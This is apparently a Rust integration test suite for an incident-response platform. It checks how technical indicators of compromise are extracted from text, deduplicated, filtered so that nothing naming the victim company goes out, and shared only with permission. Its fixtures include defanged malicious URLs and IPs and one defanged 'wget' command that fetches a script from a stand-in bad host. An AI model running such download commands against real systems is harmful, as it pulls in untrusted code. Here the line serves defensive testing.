//! Technical traces: noted from a text, looked at, given out without the victim.

use hikeshi_db::Fence;
use hikeshi_incidents::model::incident;
use hikeshi_sharing::{model::indicator, technical::indicators_of};
use hikeshi_testkit::Browser;
use sea_orm::EntityTrait as _;

use crate::world::{ANALYST, EMPLOYEE, OFFICER, STAFF, STRANGER, World};

const TEXT: &str = "hxxps://evil-cdn[.]com/gate.php and 203[.]0[.]113[.]5 called from 192.168.1.20\n\
    mail to officer@minato.example, host login.minatofoods.evil.net, version 10.2.3.4";

/// Reads the text and notes everything in it.
async fn note(world: &World, browser: &mut Browser, incident: &incident::Model, text: &str) {
    let page = browser.get(&world.path(incident, "/indicators")).await;
    let form = page.form_with_button("Find them").fill("Text to look through", text);
    let page = browser.submit(form).await;
    assert_eq!(page.heading(), "Check what was found", "{}", page.text());
    let page = browser.submit(page.form_with_button("Note the chosen ones")).await;
    assert_eq!(page.heading(), "Technical indicators", "{}", page.text());
}

async fn noted(world: &World, incident: &incident::Model) -> Vec<indicator::Model> {
    let tx = world.platform.db.read(Fence::Open).await.unwrap();
    indicators_of(&tx, incident).await.unwrap()
}

#[tokio::test]
async fn what_is_pasted_is_noted_once_and_only_what_names_nobody_goes_out() {
    for world in World::every_kind().await {
        let incident = world.incident(world.company).await;
        let mut officer = world.browser(OFFICER);
        note(&world, &mut officer, &incident, TEXT).await;
        note(&world, &mut officer, &incident, TEXT).await;
        assert_eq!(noted(&world, &incident).await.len(), 5, "noting twice notes once");
        let page = officer.get(&world.path(&incident, "/indicators/give")).await;
        let text = page.text();
        assert!(text.contains("Goes out (2)") && text.contains("Stays behind (3)"), "{text}");
        assert!(text.contains("Points at a person concerned: officer@minato.example"), "{text}");
        let form = page.form_with_button("Make the file");
        let page = officer.submit(form.clone()).await;
        assert_eq!(page.status(), 422, "nothing goes out before somebody says that it was checked");
        let form = form.choose("I have checked what goes out");
        let page = officer.submit(form).await;
        assert_eq!(page.heading(), "Indicators given out", "{}", page.text());
        let file = officer.fetch(&page.by_role_link("Save the file").href).await;
        let bundle = file.text();
        assert!(bundle.contains("203.0.113.5") && bundle.contains("evil-cdn.com/gate.php"));
        for secret in [
            "minato",
            "Minato",
            "officer",
            "192.168",
            &incident.id.to_string(),
            &incident.number,
            "Ransom",
        ] {
            assert!(!bundle.contains(secret), "{secret} stands in {bundle}");
            assert!(!file.header("content-disposition").contains(secret));
        }
        assert_eq!(officer.fetch(&page.by_role_link("Save the file").href).await.body, file.body);
    }
}

#[tokio::test]
async fn the_companys_own_list_holds_back_what_it_names() {
    for world in World::every_kind().await {
        let incident = world.incident(world.company).await;
        let mut officer = world.browser(OFFICER);
        note(&world, &mut officer, &incident, "https://evil.com/umimachi/x and 198.51.100.7").await;
        let give = world.path(&incident, "/indicators/give");
        assert!(officer.get(&give).await.text().contains("Goes out (2)"));
        let own = format!("/c/{}/own-signs", world.company);
        for sign in ["Umimachi", "198.51.100.0/24"] {
            let page = officer.get(&own).await;
            let form = page.form_with_button("Add").fill("Name, domain or IP address", sign);
            officer.submit(form).await;
        }
        let text = officer.get(&give).await.text();
        assert!(text.contains("Goes out (0)"), "{text}");
        assert!(text.contains("An address of the company: 198.51.100.0/24"), "{text}");
        let page = officer.post(&own, &[("sign", "ab")]).await;
        assert_eq!(page.status(), 422);
        assert_eq!(world.browser(STAFF).post(&own, &[("sign", "Other")]).await.status(), 403);
    }
}

#[tokio::test]
async fn traces_are_found_in_the_technical_facts_and_the_typed_lines_of_the_incident() {
    for world in World::every_kind().await {
        let incident = world.incident(world.company).await;
        world.fact(&incident, "evidence_kept", "log with 203.0.113.77").await;
        world.fact(&incident, "organisation", "see evil-named.com").await;
        world.line(&incident, "wget hxxp://bad-host[.]net/a.sh").await;
        let mut staff = world.browser(STAFF);
        let path = world.path(&incident, "/indicators/read");
        let text = staff.post(&path, &[("from", "case")]).await.text();
        assert!(text.contains("203[.]0[.]113[.]77") && text.contains("bad-host[.]net"), "{text}");
        assert!(!text.contains("evil-named"), "only facts of class technical: {text}");
    }
}

#[tokio::test]
async fn only_whoever_may_share_gives_out_and_a_provider_needs_the_companys_leave() {
    for world in World::every_kind().await {
        let incident = world.incident(world.company).await;
        note(&world, &mut world.browser(STAFF), &incident, "evil-cdn.com").await;
        let give = world.path(&incident, "/indicators/give");
        for (who, status) in [(STAFF, 403), (EMPLOYEE, 403), (STRANGER, 404), (ANALYST, 403)] {
            assert_eq!(world.browser(who).get(&give).await.status(), status, "{who:?}");
        }
        world.allow_provider(true).await;
        assert_eq!(world.browser(ANALYST).get(&give).await.status(), 200);
        world.allow_provider(false).await;
        assert_eq!(world.browser(ANALYST).get(&give).await.status(), 403);
    }
}

#[tokio::test]
async fn a_trace_of_another_company_is_neither_given_out_nor_removed() {
    for world in World::every_kind().await {
        let (ours, theirs) =
            (world.incident(world.company).await, world.incident(world.other).await);
        note(&world, &mut world.browser(STRANGER), &theirs, "their-secret.com").await;
        note(&world, &mut world.browser(OFFICER), &ours, "evil-cdn.com").await;
        let foreign = noted(&world, &theirs).await.remove(0).id.to_string();
        let mut officer = world.browser(OFFICER);
        let give = world.path(&ours, "/indicators/give");
        let form =
            [("form", "text"), ("tlp", "red"), ("confirmed", "yes"), ("go", foreign.as_str())];
        let refused = officer.post(&give, &form).await;
        assert!(refused.status().is_client_error() && !refused.text().contains("their-secret"));
        let remove = world.path(&ours, &format!("/indicators/{foreign}/remove"));
        assert_eq!(officer.post(&remove, &[]).await.status(), 404);
        let tx = world.platform.db.read(Fence::Open).await.unwrap();
        let left = indicator::Entity::find().all(tx.conn()).await.unwrap();
        assert!(left.iter().all(|row| row.removed_at.is_none()));
    }
}

#[tokio::test]
async fn a_text_without_traces_is_shown_again_with_what_was_typed() {
    for world in World::every_kind().await {
        let incident = world.incident(world.company).await;
        let path = world.path(&incident, "/indicators/read");
        let mut officer = world.browser(OFFICER);
        let page = officer.post(&path, &[("text", "nothing here, version 10.2.3.4")]).await;
        assert_eq!(page.status(), 422);
        assert!(page.text().contains("nothing here, version 10.2.3.4"), "{}", page.text());
        let long = "a\n".repeat(2_001);
        let page = officer.post(&path, &[("text", &long)]).await;
        assert!(page.text().contains("at most 2,000 lines"), "{}", page.text());
    }
}
